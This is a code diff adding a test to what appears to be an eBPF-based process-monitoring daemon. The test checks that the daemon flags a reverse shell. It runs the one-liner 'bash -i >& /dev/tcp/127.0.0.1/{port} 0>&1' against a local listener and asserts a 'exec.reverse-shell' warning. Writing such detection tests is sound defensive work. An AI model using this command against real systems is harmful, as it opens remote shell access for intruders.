@@ -271,3 +271,32 @@ def test_an_orphan_of_an_exited_shell_stays_guarded(daemon: Callable[..., Runnin
     found = wait_for(lambda: records(d, lambda r: r["shell"] == out["pid"]
                                      and r["action"] == "warn"), 10, "its record", d.log)
     assert found[0]["argv"][:2] == ["bash", "-c"]
+
+
+def test_a_shell_on_a_network_socket_is_seen_as_a_reverse_shell(
+        daemon: Callable[..., RunningDaemon], tmp_path: Path) -> None:
+    import socket
+
+    d = daemon("--ebpf-mode", "warn")
+    listener = socket.create_server(("127.0.0.1", 0))
+    port = listener.getsockname()[1]
+    command = f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
+    proc = subprocess.Popen([sys.executable, "-c", CHILD, d.socket, str(tmp_path / "m"),
+                             "plain", command], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                            text=True, cwd="/")
+    conn = None
+    try:
+        listener.settimeout(20)
+        conn, _ = listener.accept()
+        found = wait_for(lambda: records(d, lambda r: "exec.reverse-shell" in r["rules"]), 20,
+                         "the reverse shell's record", d.log)
+        assert found[0]["argv"] == ["bash", "-i"] and found[0]["action"] == "warn"
+    finally:
+        if conn is not None:
+            conn.close()  # the shell on it reads EOF and exits
+        listener.close()
+        try:
+            proc.communicate(timeout=30)
+        finally:
+            proc.kill()
+            proc.wait()
